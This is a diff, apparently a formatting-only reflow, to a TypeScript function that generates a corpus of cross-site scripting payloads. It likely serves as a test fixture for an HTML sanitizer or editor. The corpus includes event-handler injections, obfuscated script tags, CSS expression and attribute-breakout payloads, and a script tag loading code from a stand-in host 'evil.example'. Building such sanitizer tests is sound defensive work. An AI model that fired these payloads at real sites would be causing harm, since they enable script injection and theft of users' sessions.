@@ -4,8 +4,40 @@
  */
 export function scriptPayloads(): string[] {
   const run = "alert(document.domain)";
-  const tags = ["p", "img", "a", "div", "span", "table", "td", "svg", "body", "video", "audio", "input", "details", "marquee", "iframe", "math", "font", "li", "h2", "mark"];
-  const events = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onpointerrawupdate", "oncontentvisibilityautostatechange"];
+  const tags = [
+    "p",
+    "img",
+    "a",
+    "div",
+    "span",
+    "table",
+    "td",
+    "svg",
+    "body",
+    "video",
+    "audio",
+    "input",
+    "details",
+    "marquee",
+    "iframe",
+    "math",
+    "font",
+    "li",
+    "h2",
+    "mark",
+  ];
+  const events = [
+    "onload",
+    "onerror",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "ontoggle",
+    "onbegin",
+    "onanimationstart",
+    "onpointerrawupdate",
+    "oncontentvisibilityautostatechange",
+  ];
   const handlers = tags.flatMap((tag, at) =>
     [events[at % events.length], events[(at + 3) % events.length]].flatMap((event) => [
       `<${tag} src=x ${event}=${run}>文`,
@@ -46,7 +78,9 @@ export function scriptPayloads(): string[] {
     `<div data-type="video" data-src="${scheme}"></div>`,
   ]);
   const elements = [
-    ...["script", "SCRIPT", "scr\u0000ipt", "script/x", "script\n", "script\u00a0"].map((tag) => `<${tag}>${run}</script>`),
+    ...["script", "SCRIPT", "scr\u0000ipt", "script/x", "script\n", "script\u00a0"].map(
+      (tag) => `<${tag}>${run}</script>`,
+    ),
     `<script src=//evil.example/x.js></script>`,
     `<scr<script>ipt>${run}</scr</script>ipt>`,
     `<<script>${run}//<</script>`,
@@ -156,6 +190,11 @@ export function scriptPayloads(): string[] {
     `--x:url(https://evil.example)`,
     `col\\6f r:expression(${run})`,
     `background-color:#fff3bf" onclick="${run}`,
-  ].flatMap((style) => [`<p style="${style}">文</p>`, `<span style='${style}'>文</span>`, `<mark style="${style}">文</mark>`, `<td style="${style}">文</td>`]);
+  ].flatMap((style) => [
+    `<p style="${style}">文</p>`,
+    `<span style='${style}'>文</span>`,
+    `<mark style="${style}">文</mark>`,
+    `<td style="${style}">文</td>`,
+  ]);
   return [...handlers, ...addresses, ...elements, ...mutations, ...styles];
 }
